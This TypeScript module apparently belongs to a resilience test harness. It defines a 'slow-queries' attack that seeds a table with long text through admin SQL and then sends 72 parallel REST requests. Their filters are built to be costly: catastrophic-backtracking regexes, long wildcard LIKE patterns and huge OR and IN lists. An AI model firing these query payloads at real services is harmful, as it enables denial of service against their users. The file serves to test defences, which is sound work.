import { inParallel, type Attack } from '../attack.ts';

const WORD = 'Messreihe';
/** What makes a database work long for a short question. */
const FILTERS = [
  `transcript=match.${encodeURIComponent('^(([a-zA-Z0-9 ]+)+)+$|x{200}')}`,
  `transcript=imatch.${encodeURIComponent(`(${WORD}|.*)*!`)}`,
  `transcript=like.*${'a*'.repeat(200)}`,
  `transcript=fts.${encodeURIComponent(Array.from({ length: 400 }, (_, n) => `w${n}`).join(' & '))}`,
  `or=(${Array.from({ length: 400 }, (_, n) => `transcript.ilike.*${n}*`).join(',')})`,
  `id=in.(${Array.from({ length: 2_000 }, (_, n) => n).join(',')})`,
];

export const slowQueries: Attack = {
  name: 'slow-queries',
  about: 'filters that cost the database much, 12 at once, 72 in all',
  arrange: () => ({
    run: async (target, tally) => {
      // With an administrator's rights: others see too few rows.
      await target.sql(`update public.interviews set transcript = repeat('Messreihe aaaa ', 3000)`);
      await inParallel(72, 12, async (index) => {
        const filter = FILTERS[index % FILTERS.length] ?? '';
        const path = `/rest/v1/interviews?select=id&${filter}`;
        tally.count((await target.call({ path, headers: target.attackingMember })).status);
      });
    },
  }),
};
